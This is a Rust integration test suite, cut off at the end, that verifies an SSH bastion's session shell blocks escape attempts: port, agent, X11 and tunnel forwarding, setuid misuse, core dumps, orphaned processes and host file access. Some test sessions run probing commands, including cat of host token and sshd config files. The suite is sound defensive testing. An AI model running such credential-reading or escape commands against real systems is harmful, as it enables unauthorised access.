#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
//! Issue 7, part 3: escape attempts with the real `ssh` client against the
//! real sshd, keys hook, drop-in and setuid session shell.
//!
//! Each test proves the attempt really failed, not only that ssh exited
//! non-zero: a real listener on 127.0.0.1 sees no connection through a
//! refused forward, a refused remote port is not listening on the bastion,
//! sshd's own log names the refusal, and the same machinery works for the
//! plain local user (anchors), so a test cannot pass because the client
//! never tried.

mod common;

use common::*;
use std::fs;
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::Arc;
use std::thread;
use std::time::Duration;

const SVC: &str = "srv-web1";
const LOGIN: &str = "srv-web1-aaaaa";
const OWNER: &str = "alice@example.com";
const WAIT: Duration = Duration::from_secs(10);

/// A bastion where `srv-web1` is a paid web service listing alice's key.
fn bastion() -> (TestHost, ClientKey) {
    let host = TestHost::start(TestHostOpts::default());
    let key = host.key(KeyKind::Ed25519);
    host.control_plane()
        .set_body(SVC, &web_service(SVC, &[KeySpec::new(&key, OWNER)]));
    (host, key)
}

fn instance(host: &TestHost) -> Instance {
    Instance::start(host, SVC, "aaaaa", InstanceOpts::default().app_user())
}

/// A TCP listener on 127.0.0.1 that counts every connection and byte that
/// reaches it: the target a forward would have to reach.
struct Sentinel {
    port: u16,
    connections: Arc<AtomicUsize>,
    bytes: Arc<AtomicUsize>,
    stop: Arc<AtomicBool>,
    thread: Option<thread::JoinHandle<()>>,
}

impl Sentinel {
    fn start() -> Sentinel {
        let l = TcpListener::bind("127.0.0.1:0").unwrap();
        l.set_nonblocking(true).unwrap();
        let port = l.local_addr().unwrap().port();
        let (connections, bytes, stop) = (
            Arc::new(AtomicUsize::new(0)),
            Arc::new(AtomicUsize::new(0)),
            Arc::new(AtomicBool::new(false)),
        );
        let (c, b, s) = (connections.clone(), bytes.clone(), stop.clone());
        let thread = thread::spawn(move || {
            while !s.load(Ordering::SeqCst) {
                match l.accept() {
                    Ok((mut conn, _)) => {
                        c.fetch_add(1, Ordering::SeqCst);
                        let _ = conn.set_nonblocking(false);
                        let _ = conn.set_read_timeout(Some(Duration::from_millis(500)));
                        let mut buf = [0u8; 4096];
                        while let Ok(n) = conn.read(&mut buf) {
                            if n == 0 {
                                break;
                            }
                            b.fetch_add(n, Ordering::SeqCst);
                        }
                    }
                    Err(_) => thread::sleep(Duration::from_millis(10)),
                }
            }
        });
        Sentinel {
            port,
            connections,
            bytes,
            stop,
            thread: Some(thread),
        }
    }

    fn assert_untouched(&self, what: &str) {
        assert_eq!(
            (
                self.connections.load(Ordering::SeqCst),
                self.bytes.load(Ordering::SeqCst)
            ),
            (0, 0),
            "{what}: the listener on 127.0.0.1:{} was reached",
            self.port
        );
    }
}

impl Drop for Sentinel {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::SeqCst);
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}

/// An ssh client left running, with stdout/stderr in files (read at any
/// time); killed and reaped on drop.
struct Running {
    child: Child,
    out: PathBuf,
    err: PathBuf,
}

impl Running {
    fn spawn(mut cmd: Command, dir: &Path, name: &str) -> Running {
        let out = dir.join(format!("{name}.out"));
        let err = dir.join(format!("{name}.err"));
        cmd.stdin(Stdio::piped())
            .stdout(fs::File::create(&out).unwrap())
            .stderr(fs::File::create(&err).unwrap());
        let child = cmd.spawn().unwrap();
        Running { child, out, err }
    }

    fn stdout(&self) -> String {
        fs::read_to_string(&self.out).unwrap_or_default()
    }

    fn stderr(&self) -> String {
        fs::read_to_string(&self.err).unwrap_or_default()
    }

    fn wait_stderr(&self, needle: &str) -> bool {
        util::wait_for(WAIT, || self.stderr().contains(needle).then_some(())).is_some()
    }

    fn wait_stdout(&self, needle: &str) -> bool {
        util::wait_for(WAIT, || self.stdout().contains(needle).then_some(())).is_some()
    }

    /// Waits for the client to exit by itself.
    fn wait_exit(&mut self, timeout: Duration) -> Option<std::process::ExitStatus> {
        util::wait_for(timeout, || self.child.try_wait().ok().flatten())
    }
}

impl Drop for Running {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn free_port() -> u16 {
    TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port()
}

fn connect(port: u16) -> std::io::Result<TcpStream> {
    TcpStream::connect_timeout(
        &SocketAddr::from(([127, 0, 0, 1], port)),
        Duration::from_secs(2),
    )
}

/// Reads until EOF or the timeout; what arrived.
fn drain(s: &mut TcpStream, timeout: Duration) -> Vec<u8> {
    s.set_read_timeout(Some(timeout)).unwrap();
    let mut got = Vec::new();
    let mut buf = [0u8; 1024];
    while let Ok(n) = s.read(&mut buf) {
        if n == 0 {
            break;
        }
        got.extend_from_slice(&buf[..n]);
    }
    got
}

/// sshd logged the service login's acceptance (the client is past auth).
fn wait_accepted(host: &TestHost, user: &str) {
    assert!(
        host.wait_sshd_log(&format!("Accepted publickey for {user} from"), WAIT),
        "sshd did not accept {user}:\n{}",
        host.sshd_log()
    );
}

// ----- what the shipped configuration says ---------------------------------

#[test]
fn drop_in_and_key_options_turn_every_forwarding_off() {
    let (host, key) = bastion();
    // sshd's effective configuration for a service login (the shipped
    // drop-in as the test sshd reads it) against the plain user's.
    let effective = |user: &str| {
        let out = host.sshd_test(&[
            "-T",
            "-C",
            &format!("user={user},host=localhost,addr=127.0.0.1"),
        ]);
        assert!(out.status.success(), "{}", util::lossy(&out.stderr));
        util::lossy(&out.stdout)
    };
    let svc = effective(LOGIN);
    for line in [
        "disableforwarding yes",
        "permittunnel no",
        "permituserrc no",
        "authorizedkeysfile none",
        "exposeauthinfo yes",
    ] {
        assert!(
            svc.lines().any(|l| l == line),
            "sshd -T for {LOGIN} lacks {line:?}:\n{svc}"
        );
    }
    assert!(
        svc.lines()
            .any(|l| l.starts_with("forcecommand ") && l.ends_with("/porthole-shell")),
        "{svc}"
    );
    let plain = effective(PLAIN_USER);
    assert!(
        plain.lines().any(|l| l == "disableforwarding no"),
        "the drop-in leaked out of its Match block:\n{plain}"
    );
    // The key line the hook hands sshd starts with `restrict` (no agent,
    // port, X11 forwarding, no ~/.ssh/rc), re-allowing only the pty.
    let hook = host.run_keys_hook(&[LOGIN, &key.fingerprint, &key.key_type, &key.base64]);
    let lines = util::lossy(&hook.output.stdout);
    assert!(hook.output.status.success(), "{lines}");
    assert!(
        lines.starts_with("restrict,pty") && lines.lines().count() == 1,
        "{lines}"
    );
}

// ----- forwarding ----------------------------------------------------------

#[test]
fn local_forward_l_reaches_nothing() {
    let (host, key) = bastion();
    let target = Sentinel::start();
    let local = free_port();
    let ssh = host
        .ssh_cmd(SVC, &key)
        .flags(&["-v", "-N", "-L"])
        .flags(&[format!("127.0.0.1:{local}:127.0.0.1:{}", target.port)])
        .command();
    let client = Running::spawn(ssh, host.dir(), "ssh-L");
    wait_accepted(&host, SVC);
    assert!(
        client.wait_stderr(&format!("Local connections to 127.0.0.1:{local} forwarded")),
        "the client did not set up the local forward:\n{}",
        client.stderr()
    );
    let mut s = connect(local).expect("the client's own -L listener");
    let _ = s.write_all(b"GET / HTTP/1.0\r\n\r\nESCAPE");
    // The channel open is refused: the client closes our connection.
    let back = drain(&mut s, Duration::from_secs(5));
    assert!(back.is_empty(), "got {back:?} through the forward");
    assert!(
        client.wait_stderr("administratively prohibited"),
        "{}",
        client.stderr()
    );
    assert!(
        host.wait_sshd_log("refused local port forward: originator 127.0.0.1", WAIT),
        "{}",
        host.sshd_log()
    );
    assert!(host
        .sshd_log()
        .contains(&format!("target 127.0.0.1 port {}", target.port)));
    thread::sleep(Duration::from_millis(300));
    target.assert_untouched("-L");
}

#[test]
fn remote_forward_r_opens_no_port_on_the_bastion() {
    let (host, key) = bastion();
    let target = Sentinel::start();
    let remote = free_port();
    let ssh = host
        .ssh_cmd(SVC, &key)
        .flags(&["-v", "-N", "-R"])
        .flags(&[format!("127.0.0.1:{remote}:127.0.0.1:{}", target.port)])
        .command();
    let client = Running::spawn(ssh, host.dir(), "ssh-R");
    wait_accepted(&host, SVC);
    assert!(
        client.wait_stderr("Server has disabled port forwarding"),
        "{}",
        client.stderr()
    );
    assert!(
        client.wait_stderr(&format!(
            "remote forward failure for: listen 127.0.0.1:{remote}"
        )),
        "{}",
        client.stderr()
    );
    // The client is still connected, and nothing listens on the port.
    assert!(
        connect(remote).is_err(),
        "127.0.0.1:{remote} accepts connections on the bastion"
    );
    let listening = fs::read_to_string("/proc/net/tcp").unwrap();
    let hex = format!(":{remote:04X} ");
    assert!(
        !listening
            .lines()
            .any(|l| l.contains(&hex) && l.split_whitespace().nth(3) == Some("0A")),
        "port {remote} is in LISTEN on the bastion:\n{listening}"
    );
    target.assert_untouched("-R");
}

#[test]
fn dynamic_forward_d_socks_connect_fails() {
    let (host, key) = bastion();
    let target = Sentinel::start();
    let socks = free_port();
    let ssh = host
        .ssh_cmd(SVC, &key)
        .flags(&["-v", "-N", "-D"])
        .flags(&[format!("127.0.0.1:{socks}")])
        .command();
    let client = Running::spawn(ssh, host.dir(), "ssh-D");
    wait_accepted(&host, SVC);
    assert!(
        client.wait_stderr(&format!(
            "Local forwarding listening on 127.0.0.1 port {socks}"
        )),
        "{}",
        client.stderr()
    );
    let mut s = connect(socks).expect("the client's SOCKS listener");
    // SOCKS5: no authentication, then CONNECT 127.0.0.1:<target>.
    s.write_all(&[5, 1, 0]).unwrap();
    let mut hello = [0u8; 2];
    s.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    s.read_exact(&mut hello).unwrap();
    assert_eq!(hello, [5, 0], "the client's SOCKS server answered");
    let p = target.port.to_be_bytes();
    s.write_all(&[5, 1, 0, 1, 127, 0, 0, 1, p[0], p[1]])
        .unwrap();
    let reply = drain(&mut s, Duration::from_secs(5));
    assert!(
        !(reply.len() >= 2 && reply[1] == 0),
        "SOCKS CONNECT succeeded: {reply:?}"
    );
    assert!(
        host.wait_sshd_log(&format!("target 127.0.0.1 port {}", target.port), WAIT)
            && host.sshd_log().contains("refused local port forward"),
        "{}",
        host.sshd_log()
    );
    thread::sleep(Duration::from_millis(300));
    target.assert_untouched("-D");
}

#[test]
fn stdio_forward_w_is_refused() {
    let (host, key) = bastion();
    let target = Sentinel::start();
    let r = host
        .ssh_cmd(SVC, &key)
        .flags(&["-W"])
        .flags(&[format!("127.0.0.1:{}", target.port)])
        .stdin(b"ESCAPE\n".to_vec())
        .timeout(Duration::from_secs(20))
        .run();
    assert_eq!(r.code(), Some(255), "{}", r.describe());
    let err = r.stderr_str();
    assert!(err.contains("stdio forwarding failed"), "{}", r.describe());
    assert!(r.stdout.is_empty());
    assert!(
        host.wait_sshd_log(&format!("target 127.0.0.1 port {}", target.port), WAIT)
            && host.sshd_log().contains("refused local port forward"),
        "{}",
        host.sshd_log()
    );
    target.assert_untouched("-W");
}

/// A real ssh-agent holding `key`, killed on drop.
struct Agent {
    child: Child,
    socket: PathBuf,
}

impl Agent {
    fn start(dir: &Path, key: &ClientKey) -> Agent {
        let socket = dir.join("agent.sock");
        let child = Command::new("ssh-agent")
            .arg("-D")
            .arg("-a")
            .arg(&socket)
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let agent = Agent { child, socket };
        assert!(
            util::wait_for(WAIT, || agent.socket.exists().then_some(())).is_some(),
            "ssh-agent did not create its socket"
        );
        util::run_ok(
            Command::new("ssh-add")
                .arg(&key.path)
                .env("SSH_AUTH_SOCK", &agent.socket),
        );
        agent
    }
}

impl Drop for Agent {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// `cmd` with the harness's `IdentityAgent=none` replaced by the agent's
/// socket and `-A` added: the client checks for an agent before it asks
/// to forward one.
fn with_agent(cmd: Command, agent: &Agent) -> Command {
    let mut c = Command::new(cmd.get_program());
    for a in cmd.get_args() {
        if a == "IdentityAgent=none" {
            c.arg(format!("IdentityAgent={}", agent.socket.display()));
        } else {
            c.arg(a);
        }
    }
    // ssh reads options in order; flags before the destination work anywhere.
    let mut args: Vec<std::ffi::OsString> = c.get_args().map(|a| a.to_owned()).collect();
    args.insert(0, "-A".into());
    let mut out = Command::new(cmd.get_program());
    out.args(args);
    out
}

/// `/tmp/ssh-*` directories (where sshd puts forwarded agent sockets)
/// owned by `uid`.
fn agent_dirs_of(uid: u32) -> Vec<PathBuf> {
    fs::read_dir("/tmp")
        .unwrap()
        .filter_map(|e| e.ok())
        .filter(|e| e.file_name().to_string_lossy().starts_with("ssh-"))
        .filter(|e| e.metadata().map(|m| m.uid() == uid).unwrap_or(false))
        .map(|e| e.path())
        .collect()
}

#[test]
fn agent_forwarding_a_gives_the_session_no_agent() {
    let (host, key) = bastion();
    let _i = instance(&host);
    let agent = Agent::start(host.dir(), &key);
    // Anchor: the same client and agent give the plain local user (outside
    // the Match block) a working forwarded agent.
    host.authorize_plainuser(&key);
    let mut anchor = with_agent(
        host.ssh_cmd(PLAIN_USER, &key).arg("ssh-add -l").command(),
        &agent,
    );
    let t = util::run_with_timeout(&mut anchor, None, WAIT);
    let plain = SshRun {
        output: t.output,
        elapsed: t.elapsed,
        timed_out: t.timed_out,
    };
    assert!(
        plain.success() && plain.stdout_str().contains(&key.fingerprint),
        "the anchor login did not get the agent:\n{}",
        plain.describe()
    );
    // The service login asks for the agent too and gets nothing.
    let cmd = host
        .ssh_cmd(LOGIN, &key)
        .flags(&["-v"])
        .arg(
            "echo SOCK=${SSH_AUTH_SOCK-unset}; find / -xdev -type s 2>/dev/null; \
             echo listed; sleep 3",
        )
        .command();
    let mut client = Running::spawn(with_agent(cmd, &agent), host.dir(), "ssh-A");
    assert!(client.wait_stdout("listed"), "{}", client.stderr());
    assert!(
        client
            .stderr()
            .contains("Requesting authentication agent forwarding"),
        "the client did not ask for agent forwarding:\n{}",
        client.stderr()
    );
    // While the session runs: no agent socket on the bastion for it.
    assert_eq!(agent_dirs_of(host.ids().session), Vec::<PathBuf>::new());
    let status = client.wait_exit(Duration::from_secs(20));
    assert!(status.is_some_and(|s| s.success()), "{}", client.stderr());
    let out = client.stdout();
    assert_eq!(
        out, "SOCK=unset\nlisted\n",
        "sockets visible inside:\n{out}"
    );
}

/// Relays stdin/stdout to 127.0.0.1:PORT (a ProxyCommand for a client in
/// another network namespace).
const RELAY: &str = r#"import os, socket, sys, threading
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
def up():
    while True:
        d = os.read(0, 65536)
        if not d:
            s.shutdown(socket.SHUT_WR)
            return
        s.sendall(d)
threading.Thread(target=up, daemon=True).start()
while True:
    d = s.recv(65536)
    if not d:
        break
    os.write(1, d)
"#;

fn interfaces() -> Vec<String> {
    let mut v: Vec<String> = fs::read_dir("/sys/class/net")
        .unwrap()
        .filter_map(|e| e.ok())
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    v.sort();
    v
}

#[test]
fn tunnel_w_is_refused_and_creates_no_device_on_the_bastion() {
    if !Path::new("/dev/net/tun").exists() {
        // The client opens its tun device before it asks; without one it
        // never asks (drop_in_and_key_options_turn_every_forwarding_off
        // still checks PermitTunnel no).
        eprintln!("SKIPPED: no /dev/net/tun on this machine");
        return;
    }
    let (host, key) = bastion();
    let before = interfaces();
    // The client opens its own tun device before asking the server, so it
    // runs in a private network namespace (the host's interfaces stay
    // untouched) and reaches sshd through a relay in the host's namespace.
    let relay = host.dir().join("relay.py");
    fs::write(&relay, RELAY).unwrap();
    let proxy = format!(
        "ProxyCommand=nsenter --net=/proc/{}/ns/net -- python3 {} {}",
        std::process::id(),
        relay.display(),
        host.port()
    );
    let ssh = host
        .ssh_cmd(SVC, &key)
        .flags(&["-v", "-N", "-w", "any:any"])
        .option(&proxy)
        .option("ExitOnForwardFailure=yes")
        .command();
    let mut cmd = Command::new("unshare");
    cmd.arg("-n")
        .arg("--")
        .arg(ssh.get_program())
        .args(ssh.get_args());
    let mut client = Running::spawn(cmd, host.dir(), "ssh-w");
    wait_accepted(&host, SVC);
    let status = client.wait_exit(Duration::from_secs(20));
    let err = client.stderr();
    assert!(
        err.contains("Requesting tun unit"),
        "the client did not ask for a tunnel:\n{err}"
    );
    assert!(
        err.contains("Server has rejected tunnel device forwarding"),
        "{err}"
    );
    assert!(status.is_some_and(|s| !s.success()), "{err}");
    assert_eq!(
        interfaces(),
        before,
        "a network device appeared on the host"
    );
}

#[test]
fn x11_forwarding_x_gives_the_session_no_display() {
    let (host, key) = bastion();
    let _i = instance(&host);
    // The client has a display to forward (a fake one: it is only dialled
    // when an X11 channel opens, which never happens).
    let r = {
        let mut c = host
            .ssh_cmd(LOGIN, &key)
            .flags(&["-v", "-X"])
            .option("ForwardX11Trusted=yes")
            .arg("echo DISPLAY=${DISPLAY-unset}; ls -a /tmp")
            .command();
        c.env("DISPLAY", "127.0.0.1:97");
        util::run_with_timeout(&mut c, None, Duration::from_secs(30))
    };
    let out = util::lossy(&r.output.stdout);
    let err = util::lossy(&r.output.stderr);
    assert!(r.output.status.success(), "{out}\n{err}");
    assert!(err.contains("Requesting X11 forwarding"), "{err}");
    assert!(
        err.contains("X11 forwarding request failed on channel 0"),
        "{err}"
    );
    assert!(out.starts_with("DISPLAY=unset\n"), "{out}");
    assert!(!out.contains(".X11-unix"), "{out}");
    // sshd would have listened on 6010+ (X11DisplayOffset) on the bastion.
    for port in 6010..6020 {
        assert!(connect(port).is_err(), "something listens on {port}");
    }
}

#[test]
fn unknown_subsystem_is_refused_with_a_message() {
    let (host, key) = bastion();
    let _i = instance(&host);
    let r = host
        .ssh_cmd(LOGIN, &key)
        .flags(&["-s"])
        .arg("escape-hatch")
        .run();
    assert_eq!(r.code(), Some(255), "{}", r.describe());
    assert!(
        r.stderr_str()
            .contains("subsystem request failed on channel 0"),
        "{}",
        r.describe()
    );
    assert!(
        host.wait_sshd_log(
            &format!(
                "subsystem request for escape-hatch by user {LOGIN} failed, subsystem not found"
            ),
            WAIT
        ),
        "{}",
        host.sshd_log()
    );
    // Nothing ran: no session started in the instance.
    thread::sleep(Duration::from_millis(500));
    assert!(
        !host.events().iter().any(|e| e.name() == "session.start"),
        "{:?}",
        host.log_lines()
    );
}

// ----- the setuid shell outside sshd ----------------------------------------------

#[test]
fn setuid_shell_refuses_any_other_uid_with_a_sentence_and_an_event() {
    let (host, _key) = bastion();
    let bin = host.bin_dir().join("porthole-shell");
    let bin = bin.to_str().unwrap();
    // A plain local user: the file mode (4750 root:porthole-session) keeps
    // it out before any of our code runs.
    let out = host.in_ns(&[
        "setpriv",
        &format!("--reuid={PLAIN_USER}"),
        &format!("--regid={PLAIN_USER}"),
        "--clear-groups",
        "env",
        "-i",
        "USER=srv-web1",
        bin,
    ]);
    assert!(!out.status.success());
    assert!(
        util::lossy(&out.stderr).contains("Permission denied"),
        "{}",
        util::lossy(&out.stderr)
    );
    // The same user wrongly added to the session group: the kernel runs it
    // setuid, and the shell itself refuses before reading the cache.
    let out = host.in_ns(&[
        "setpriv",
        &format!("--reuid={PLAIN_USER}"),
        &format!("--regid={PLAIN_USER}"),
        "--groups=porthole-session",
        "env",
        "-i",
        "USER=srv-web1",
        "SSH_USER_AUTH=/etc/passwd",
        bin,
    ]);
    assert_eq!(out.status.code(), Some(1));
    let err = util::lossy(&out.stderr);
    assert!(
        err.contains("porthole-shell may only be run by sshd for the porthole-session account"),
        "{err}"
    );
    host.expect_event(
        "session.rejected wrong_uid",
        |e| e.is("session.rejected", &[("reason", "wrong_uid")]),
        WAIT,
    );
    // Root itself, without sshd's environment, in the bastion's namespace
    // (its real configuration): refused with a sentence and an event.
    let out = host.in_ns(&["env", "-i", "USER=srv-web1", bin]);
    assert_eq!(out.status.code(), Some(1));
    let err = util::lossy(&out.stderr);
    assert!(
        err.contains("porthole-shell is run by sshd for service logins, not by root"),
        "{err}"
    );
    host.expect_event(
        "session.rejected for root",
        |e| e.is("session.rejected", &[("reason", "not_sshd")]),
        WAIT,
    );
}

#[test]
fn shell_that_lost_its_setuid_bit_refuses_with_a_sentence_and_an_event() {
    let (host, _key) = bastion();
    // An admin's copy (or a package upgrade gone wrong) without 4750.
    let copy = host.bin_dir().join("porthole-shell-copy");
    fs::copy(host.bin_dir().join("porthole-shell"), &copy).unwrap();
    util::set_owner_mode(&copy, 0o755, 0, 0);
    let out = host.in_ns(&[
        "setpriv",
        &format!("--reuid={PLAIN_USER}"),
        &format!("--regid={PLAIN_USER}"),
        "--clear-groups",
        "env",
        "-i",
        "USER=srv-web1",
        copy.to_str().unwrap(),
    ]);
    assert_eq!(out.status.code(), Some(1));
    let err = util::lossy(&out.stderr);
    assert!(
        err.contains("porthole-shell is not installed setuid root"),
        "{err}"
    );
    let e = host.expect_event(
        "session.rejected not_sshd",
        |e| e.is("session.rejected", &[("reason", "not_sshd")]),
        WAIT,
    );
    assert_eq!(e.u64("uid"), Some(u64::from(host.ids().plain)));
}

// ----- no core dumps -----------------------------------------------------------------

/// Pids running this test's porthole-shell binary.
/// This test's porthole-shell processes: they run from the sealed memfd
/// copy (`/memfd:porthole-shell`), started from this test's binary (the
/// origin the re-exec put in their initial environment).
fn shell_pids(host: &TestHost) -> Vec<i32> {
    let origin = format!(
        "PORTHOLE_SHELL_ORIGIN={}",
        host.bin_dir().join("porthole-shell").display()
    );
    fs::read_dir("/proc")
        .unwrap()
        .filter_map(|e| e.ok())
        .filter_map(|e| e.file_name().to_str()?.parse::<i32>().ok())
        .filter(|pid| {
            fs::read_link(format!("/proc/{pid}/exe"))
                .is_ok_and(|p| p.to_string_lossy().starts_with("/memfd:porthole-shell"))
                && fs::read(format!("/proc/{pid}/environ"))
                    .is_ok_and(|env| env.split(|&b| b == 0).any(|kv| kv == origin.as_bytes()))
        })
        .collect()
}

fn ppid(pid: i32) -> Option<i32> {
    let stat = fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
    stat.rsplit_once(')')?
        .1
        .split_whitespace()
        .nth(1)?
        .parse()
        .ok()
}

/// Every file named `core` or `core.*` below `dir`.
fn cores_below(dir: &Path) -> Vec<PathBuf> {
    let mut found = Vec::new();
    let mut todo = vec![dir.to_owned()];
    while let Some(d) = todo.pop() {
        let Ok(rd) = fs::read_dir(&d) else { continue };
        for e in rd.filter_map(|e| e.ok()) {
            let Ok(ft) = e.file_type() else { continue };
            let name = e.file_name().to_string_lossy().into_owned();
            if ft.is_dir() {
                todo.push(e.path());
            } else if name == "core" || name.starts_with("core.") {
                found.push(e.path());
            }
        }
    }
    found
}

#[test]
fn session_shell_is_not_dumpable_and_leaves_no_core_when_killed() {
    let (host, key) = bastion();
    let inst = instance(&host);
    let pattern = fs::read_to_string("/proc/sys/kernel/core_pattern").unwrap();
    for (n, sig) in [libc::SIGSEGV, libc::SIGABRT, libc::SIGQUIT]
        .into_iter()
        .enumerate()
    {
        let cmd = host
            .ssh_cmd(LOGIN, &key)
            .arg(&format!("echo up{n}; sleep 60"))
            .command();
        let before = inst.pids();
        let client = Running::spawn(cmd, host.dir(), &format!("ssh-core{n}"));
        assert!(client.wait_stdout(&format!("up{n}")), "{}", client.stderr());
        let pids = shell_pids(&host);
        assert!(!pids.is_empty(), "no porthole-shell process found");
        for &pid in &pids {
            // RLIMIT_CORE 0 (soft and hard).
            let limits = fs::read_to_string(format!("/proc/{pid}/limits")).unwrap();
            let core = limits
                .lines()
                .find(|l| l.starts_with("Max core file size"))
                .unwrap();
            let words: Vec<&str> = core.split_whitespace().collect();
            assert_eq!(&words[4..6], ["0", "0"], "{core}");
            // The kernel hands the files of a non-dumpable process's /proc
            // directory to root:root; a dumpable setuid shell would show
            // its egid (the session group).
            let meta = fs::metadata(format!("/proc/{pid}/environ")).unwrap();
            assert_eq!(
                (meta.uid(), meta.gid()),
                (0, 0),
                "porthole-shell {pid} is dumpable"
            );
        }
        // The supervisor: sshd's child.
        let supervisor = pids
            .iter()
            .copied()
            .find(|&p| ppid(p).is_some_and(|pp| !pids.contains(&pp)))
            .unwrap();
        let cwd = fs::read_link(format!("/proc/{supervisor}/cwd")).unwrap();
        let gone = || {
            util::wait_for(Duration::from_secs(3), || {
                (!util::alive(supervisor)
                    || fs::read_to_string(format!("/proc/{supervisor}/stat"))
                        .is_ok_and(|s| s.contains(") Z ")))
                .then_some(())
            })
            .is_some()
        };
        util::kill(supervisor, sig);
        // Rust's runtime catches the first SIGSEGV (its stack-overflow
        // guard handler), restores the default action and returns: a
        // SIGSEGV sent with kill(2) only ends the process the second time.
        if !gone() {
            util::kill(supervisor, sig);
        }
        assert!(gone(), "porthole-shell {supervisor} survived signal {sig}");
        if sig == libc::SIGQUIT {
            // Caught (signalfd): the supervisor ends the session first, so
            // nothing of it is left running in the instance.
            let left = util::wait_for(WAIT, || {
                let now = inst.pids();
                now.iter().all(|p| before.contains(p)).then_some(())
            });
            assert!(
                left.is_some(),
                "session processes outlived SIGQUIT: {:?}",
                inst.pids()
            );
        }
        thread::sleep(Duration::from_millis(300));
        let mut cores = cores_below(host.dir());
        cores.extend(cores_below(&cwd));
        assert_eq!(
            cores,
            Vec::<PathBuf>::new(),
            "core files after signal {sig} (core_pattern {pattern:?})"
        );
    }
    // Anchor: with this host's core_pattern, a dumpable process killed the
    // same way in the same directory does leave a core, so the check above
    // would have seen one.
    if pattern.trim() == "core" || pattern.trim().starts_with("core.") {
        let dir = host.dir().join("home");
        let mut sleeper = Command::new("sh")
            .arg("-c")
            .arg("ulimit -c unlimited && exec sleep 60")
            .current_dir(&dir)
            .spawn()
            .unwrap();
        thread::sleep(Duration::from_millis(300));
        util::kill(sleeper.id() as i32, libc::SIGQUIT);
        let _ = sleeper.wait();
        let cores = cores_below(&dir);
        assert!(!cores.is_empty(), "the anchor left no core in {dir:?}");
        for c in cores {
            fs::remove_file(c).unwrap();
        }
    }
    drop(inst);
}

/// The pid of this test's supervisor (sshd's child running porthole-shell).
fn supervisor_pid(host: &TestHost) -> i32 {
    let pids = shell_pids(host);
    pids.iter()
        .copied()
        .find(|&p| ppid(p).is_some_and(|pp| !pids.contains(&pp)))
        .expect("no porthole-shell supervisor running")
}

/// Regression: the session process dropped to the container user after
/// arming its parent-death signal, and the kernel clears that signal on a
/// change of effective uid, so a supervisor killed with SIGKILL left the
/// session's command running in the instance, unsupervised.
#[test]
fn supervisor_killed_takes_the_session_command_with_it() {
    let (host, key) = bastion();
    let inst = instance(&host);
    let before = kill_supervisor_of(&host, &key, &inst, "echo up; exec sleep 60");
    assert_only(
        &inst,
        &before,
        "the session's command outlived its supervisor",
    );
}

/// Starts `command` in a session, SIGKILLs its supervisor once the command
/// runs; returns the instance's processes from before the session.
fn kill_supervisor_of(
    host: &TestHost,
    key: &ClientKey,
    inst: &Instance,
    command: &str,
) -> Vec<i32> {
    let before = inst.pids();
    let cmd = host.ssh_cmd(LOGIN, key).arg(command).command();
    let client = Running::spawn(cmd, host.dir(), "ssh-supervised");
    assert!(client.wait_stdout("up"), "{}", client.stderr());
    assert!(
        inst.pids().len() > before.len(),
        "the session is not running"
    );
    util::kill(supervisor_pid(host), libc::SIGKILL);
    before
}

/// Waits until the instance runs only the processes of `before`.
fn assert_only(inst: &Instance, before: &[i32], what: &str) {
    let left = util::wait_for(WAIT, || {
        inst.pids().iter().all(|p| before.contains(p)).then_some(())
    });
    assert!(
        left.is_some(),
        "{what}: {:?} (before: {before:?})",
        inst.pids()
    );
}

/// A supervisor that dies without running its cleanup (SIGKILL from the
/// OOM killer or an admin) takes its session process with it (parent-death
/// signal), but not what that process started. Those are found through
/// the dead supervisor's session record and killed by the next session
/// start on the host (or the admin commands), with a `session.reaped`
/// event; until then they are the only trace.
#[test]
fn supervisor_killed_leaves_no_session_process_in_the_instance() {
    let (host, key) = bastion();
    let inst = instance(&host);
    let before = kill_supervisor_of(&host, &key, &inst, "echo up; sleep 60; echo never");
    // The next login on the host sweeps.
    let r = host.ssh(LOGIN, &key, &["true"]);
    assert!(r.success(), "{}", r.describe());
    host.expect_event(
        "session.reaped",
        |e| e.name() == "session.reaped" && e.u64("processes").is_some_and(|n| n >= 1),
        WAIT,
    );
    assert_only(
        &inst,
        &before,
        "session processes outlived their supervisor and the next login",
    );
}

// ----- what a session can see ------------------------------------------------------

#[test]
fn session_has_no_host_fd() {
    let (host, key) = bastion();
    let _i = instance(&host);
    let r = host.ssh(
        LOGIN,
        &key,
        &["ls /proc/$$/fd; echo LINKS; ls -l /proc/$$/fd/ /proc/self/fd/"],
    );
    assert!(r.success(), "{}", r.describe());
    let text = r.stdout_str();
    let (shell, links) = text.split_once("LINKS\n").unwrap();
    // The session's shell holds stdin, stdout and stderr, nothing else.
    assert_eq!(shell.lines().collect::<Vec<_>>(), ["0", "1", "2"], "{text}");
    let targets: Vec<&str> = links
        .lines()
        .filter_map(|l| l.split_once(" -> ").map(|(_, t)| t))
        .collect();
    // The shell's three and ls's own (its three and the directory it reads).
    assert!(targets.len() >= 6 && targets.len() <= 7, "{text}");
    for t in targets {
        assert!(
            t.starts_with("pipe:") || t.starts_with("/proc/"),
            "an fd points at a host object: {t}\n{text}"
        );
    }
}

#[test]
fn session_sees_no_host_path() {
    let (host, key) = bastion();
    let inst = instance(&host);
    let marker = host.dir().join("host-marker");
    fs::write(&marker, "HOST-MARKER-CONTENT\n").unwrap();
    let host_hostname = fs::read_to_string("/etc/hostname").unwrap_or_default();
    let token_path = host.dir().join("etc/porthole/token");
    let script = format!(
        "cat {marker} /tmp/../{marker} /etc/porthole/porthole.toml /etc/porthole/token \
         {token} {config} /etc/ssh/sshd_config 2>&1; echo; echo HOSTNAME=$(cat /etc/hostname 2>&1); \
